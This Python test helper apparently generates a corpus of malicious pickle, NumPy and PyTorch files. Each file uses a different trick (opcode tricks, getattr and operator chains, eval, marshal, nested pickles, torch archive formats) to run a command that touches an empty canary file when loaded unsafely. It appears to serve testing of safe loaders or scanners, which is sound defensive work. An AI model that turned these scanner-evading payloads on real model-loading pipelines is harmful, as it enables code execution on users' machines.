"""Files that run code where a pickle loader opens them: what they run makes an empty file, the canary."""

import functools
import importlib
import io
import marshal
import operator
import os
import pickle
import pickletools
import subprocess
import tarfile
import timeit
import types
import zipfile
from collections import OrderedDict, deque
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """What a loader turns into the result of a call, with `state` and `items` set on it."""

    def __init__(self, function: Any, *arguments: Any, state: Any = None, items: Any = None) -> None:
        self.reduced = (function, arguments, state, items)

    def __reduce__(self) -> Any:
        return self.reduced

    def __call__(self) -> None:
        """pickle writes only functions that can be called; a loader never calls this one."""


def hostile_pickles(canary: Path) -> dict[str, bytes]:
    """Files by the trick that each plays."""
    command, code = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    system, module = Call(os.system, command), Call(importlib.import_module, "os")
    function_type = Call(operator.attrgetter("FunctionType"), Call(importlib.import_module, "types"))
    weights = {"weight": torch.zeros(2), "more": system}
    tensor = (torch.zeros(1)._typed_storage(), 0, (1,), (1,), False)
    unsafe_load = functools.partial(torch.load, weights_only=False)
    reconstructor = b"ccopyreg\n_reconstructor\n(cbuiltins\nobject\ncbuiltins\nobject\n"
    whole = pickle.dumps(system, protocol=2)
    return {
        "protocol 0": pickle.dumps(system, protocol=0),
        "protocol 2": whole,
        "protocol 5": pickle.dumps(system, protocol=5),
        "optimised opcodes": pickletools.optimize(pickle.dumps(system, protocol=4)),
        "opcode INST": f"(S'{command}'\nios\nsystem\n.".encode(),
        "opcode OBJ": f"(cos\nsystem\nS'{command}'\no.".encode(),
        "dotted name": b"\x80\x04\x8c\x02os\x8c\x0epath.os.system\x93" + b"(S'" + command.encode() + b"'\ntR.",
        "after a value that is dropped": b"S'{\"weights\": 1}'\n0" + whole[2:],
        "eval": pickle.dumps(Call(eval, code)),
        "exec": pickle.dumps(Call(exec, code)),
        "subprocess": pickle.dumps(Call(subprocess.check_call, ["touch", str(canary)])),
        "timeit": pickle.dumps(Call(timeit.timeit, code, "pass", timeit.default_timer, 1)),
        "getattr": pickle.dumps(Call(Call(getattr, module, "system"), command)),
        "attrgetter": pickle.dumps(Call(Call(operator.attrgetter("path.os.system"), module), command)),
        "methodcaller": pickle.dumps(Call(operator.methodcaller("system", command), module)),
        "partial": pickle.dumps(Call(functools.partial(os.system, command))),
        "map": pickle.dumps(Call(deque, Call(map, os.system, [command]))),
        "marshal": pickle.dumps(Call(Call(function_type, Call(marshal.loads, marshalled(code)), {}))),
        "items of a list": pickle.dumps(Call(list, items=iter([system]))),
        "state of an object": pickle.dumps(Call(types.SimpleNamespace, state={"a": system})),
        "copyreg": reconstructor + f"cos\nsystem\n(S'{command}'\ntRtR.".encode(),
        "pickle in a pickle": pickle.dumps(Call(pickle.loads, whole)),
        "numpy object array": pickle.dumps(np.array([system, None], dtype=object)),
        "npy file": npy_file(np.array([system, None], dtype=object)),
        "torch zip": torch_file(weights),
        "torch legacy": torch_file(weights, _use_new_zipfile_serialization=False),
        "torch tar": torch_tar(whole),
        "hook of a tensor": torch_file(Call(torch._utils._rebuild_tensor_v2, *tensor, OrderedDict(hook=system))),
        "torch in torch": torch_file(Call(unsafe_load, io.BytesIO(torch_file(weights)))),
        "zip in a zip": nested_zip(torch_file(weights)),
    }


TORCH_TRICKS = ("torch zip", "torch legacy", "torch tar", "hook of a tensor", "torch in torch", "zip in a zip")


def open_unsafely(trick: str, file: Path) -> None:
    """Opens a file as a program does that trusts whoever wrote it."""
    if trick in TORCH_TRICKS:
        torch.load(file, weights_only=False)
    elif trick == "npy file":
        np.load(file, allow_pickle=True)
    else:
        pickle.loads(file.read_bytes())


def marshalled(code: str) -> bytes:
    return marshal.dumps(compile(code, "weights", "exec"))


def npy_file(array: np.ndarray) -> bytes:
    file = io.BytesIO()
    np.save(file, array, allow_pickle=True)
    return file.getvalue()


def torch_file(value: Any, **options: Any) -> bytes:
    file = io.BytesIO()
    torch.save(value, file, **options)
    return file.getvalue()


def torch_tar(content: bytes) -> bytes:
    """The format of before 2017: a tar archive, of which `storages` is unpickled first."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return file.getvalue()


def nested_zip(content: bytes) -> bytes:
    """A torch file with a whole one beside its own records."""
    file = io.BytesIO(content)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(f"{archive.namelist()[0].partition('/')[0]}/data/inner.pt", content)
    return file.getvalue()
